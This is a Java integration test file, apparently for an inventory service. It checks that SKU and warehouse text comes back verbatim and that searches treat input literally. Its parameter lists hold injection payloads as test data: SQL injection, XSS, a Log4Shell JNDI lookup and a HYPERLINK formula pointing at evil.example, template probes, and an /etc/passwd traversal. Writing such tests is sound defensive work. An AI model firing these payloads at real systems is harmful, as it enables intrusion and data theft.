package argosy.itests;

import static org.assertj.core.api.Assertions.assertThat;

import argosy.testkit.TestClient;
import argosy.testkit.TestClient.Answer;
import com.fasterxml.jackson.databind.JsonNode;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What people type comes back as they typed it, and is never taken for SQL, for a script or for a formula. */
@OnDistribution
final class TextsIT {

    private static final AtomicInteger NEXT = new AtomicInteger();

    private final TestClient client;

    TextsIT(Distribution distribution) {
        this.client = distribution.admin();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "'; drop table sku; --",
                "' or '1'='1",
                "%_\\%",
                "<script>alert(1)</script>",
                "\"><img src=x onerror=alert(1)>",
                "${jndi:ldap://evil.example/a}",
                "#{7*7} {{7*7}} %{7*7}",
                "=HYPERLINK(\"http://evil.example\")",
                "../../etc/passwd",
                "😀👩‍👩‍👧‍👦🇨🇳",
                "𠮷野家 𡃁仔 龘𪚥",
                "مرحبا שלום e\u0301 ﬁ",
                "\u200Bzero\u200Bwidth\uFEFF",
                "tab\tline\nend",
            })
    void comesBackVerbatim(String text) {
        Map<String, Object> sku = new LinkedHashMap<>();
        sku.put("code", "T-TEXT-" + NEXT.incrementAndGet());
        sku.put("name", text);
        sku.put("brand", text);
        sku.put("spec", text);
        sku.put(
                "measure",
                text.substring(0, text.offsetByCodePoints(0, Math.min(4, text.codePointCount(0, text.length())))));
        assertKept(Stockroom.SKUS, sku);

        Map<String, Object> warehouse = new LinkedHashMap<>();
        warehouse.put("code", "TW" + NEXT.incrementAndGet());
        warehouse.put("name", text);
        warehouse.put("address", text);
        assertKept(Stockroom.WAREHOUSES, warehouse);
    }

    @ParameterizedTest
    @ValueSource(strings = {"𠮷-1", "𡃁", "货号-甲/乙", "É-1", "٣٤"})
    void codesMayBeOfAnyScript(String code) {
        Map<String, Object> sku = new LinkedHashMap<>();
        sku.put("code", code);
        sku.put("name", code);
        sku.put("barcode", code);
        assertKept(Stockroom.SKUS, sku);
        JsonNode found = client.get(Stockroom.SKUS + "?code=" + encoded(code))
                .expect(200)
                .json();
        assertThat(found.path("items")).hasSize(1);
    }

    @ParameterizedTest
    @ValueSource(strings = {"😀", "<b>", "a b", "' or 1=1", "-", "\u0000", "a\nb"})
    void codesThatCannotBeScannedAreRefused(String code) {
        client.post(Stockroom.SKUS, Map.of("code", code, "name", "x")).problem(422, "invalid");
    }

    @ParameterizedTest
    @ValueSource(strings = {"' or '1'='1", "%", "_", "\\", "'; drop table sku; --", "𠮷", "😀"})
    void searchTakesItLiterally(String text) {
        Answer answer = client.get(Stockroom.SKUS + "?q=" + encoded(text)).expect(200);
        for (JsonNode item : answer.json().path("items")) {
            assertThat(item.toString().replace("\\\\", "\\")).contains(text);
        }
    }

    private void assertKept(String collection, Map<String, Object> record) {
        Answer made = client.post(collection, record).expect(201);
        JsonNode read = client.get(collection + "/" + made.id()).expect(200).json();
        record.forEach((field, value) ->
                assertThat(read.path(field).asText()).as(field).isEqualTo(value));
        String history = client.get(collection + "/" + made.id() + "/history")
                .expect(200)
                .text();
        assertThat(history).contains("admin");
    }

    private static String encoded(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8);
    }
}
